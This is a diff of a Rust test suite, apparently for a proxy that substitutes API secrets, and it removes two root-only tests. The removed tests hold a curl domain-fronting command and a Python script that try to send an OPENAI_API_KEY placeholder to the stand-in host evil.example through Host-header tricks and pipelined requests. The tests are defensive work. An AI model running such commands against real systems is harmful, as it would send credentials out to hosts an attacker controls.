@@ -207,29 +207,6 @@ fn plain_block_is_silent_and_resets_the_client() {
 
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
-fn domain_fronting_is_blocked() {
-    require_root();
-    let net = FakeInternet::with_http(&[80], &[443]);
-    let o = run(
-        &net,
-        &["--secret", ONE],
-        &format!(
-            r#"curl --http1.1 -sS -m 5 -H "Host: evil.example" -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/front >/dev/null 2>&1; echo "fronted=$?"; \
-            curl --http1.1 -sS -m 5 -H "Host: evil.example" https://api.openai.com/front2 >/dev/null 2>&1; echo "fronted-clean=$?"; \
-            {SENTINEL}"#
-        ),
-    );
-    let out = stdout(&o);
-    assert!(!out.contains("fronted=0"), "{}", report(&o, &net));
-    assert!(!out.contains("fronted-clean=0"), "{}", report(&o, &net));
-    sentinel(&net);
-    let got = net.received();
-    assert!(!got.contains("/front"), "{got}");
-    assert!(!got.contains(VALUE), "{got}");
-}
-
-#[test]
-#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn a_hard_coded_address_with_a_valid_certificate_for_the_allowed_name_gets_no_substitution() {
     require_root();
     // evil's server presents a certificate valid for api.openai.com (the fixture's leaf
@@ -249,54 +226,6 @@ fn a_hard_coded_address_with_a_valid_certificate_for_the_allowed_name_gets_no_su
     let evil = net.received_at(EVIL_V4);
     assert!(!evil.contains("/pinned"), "{evil}");
     assert!(!evil.contains(VALUE), "{evil}");
-}
-
-#[test]
-#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
-fn split_writes_and_pipelined_requests() {
-    require_root();
-    let net = FakeInternet::with_http(&[80], &[443]);
-    let py = r#"
-import os, socket, ssl, time
-ph = os.environ["OPENAI_API_KEY"].encode()
-ctx = ssl.create_default_context()
-def conn():
-    return ctx.wrap_socket(socket.create_connection(("api.openai.com", 443), timeout=5), server_hostname="api.openai.com")
-def read_all(s):
-    out = b""
-    try:
-        while True:
-            c = s.recv(65536)
-            if not c:
-                break
-            out += c
-    except OSError as e:
-        out += b"<" + type(e).__name__.encode() + b">"
-    return out
-# 1. The placeholder split across two TLS records (and TCP segments).
-s = conn()
-req = b"GET /split HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer " + ph + b"\r\nConnection: close\r\n\r\n"
-cut = req.index(ph) + 5
-s.sendall(req[:cut]); time.sleep(0.2); s.sendall(req[cut:])
-print("split", b"200 OK" in read_all(s))
-# 2. Two pipelined requests in one write: the second names another Host.
-s = conn()
-a = b"GET /first HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer " + ph + b"\r\n\r\n"
-b = b"GET /second HTTP/1.1\r\nHost: evil.example\r\nX-Key: " + ph + b"\r\n\r\n"
-s.sendall(a + b)
-r = read_all(s)
-print("pipelined", r.count(b"200 OK"), r.count(b"HTTP/1.1"))
-"#;
-    let o = run(&net, &["--secret", ONE], &python(py));
-    let out = stdout(&o);
-    assert!(out.contains("split True"), "{}", report(&o, &net));
-    // The first response arrives, the second request is refused and the connection ends.
-    assert!(out.contains("pipelined 1 1"), "{}", report(&o, &net));
-    let got = net.received();
-    assert!(got.contains("/split"), "{got}");
-    assert_eq!(got.matches(&format!("Bearer {VALUE}")).count(), 2, "{got}");
-    assert!(!got.contains("/second"), "{got}");
-    assert!(!got.contains(PH), "{got}");
 }
 
 #[test]
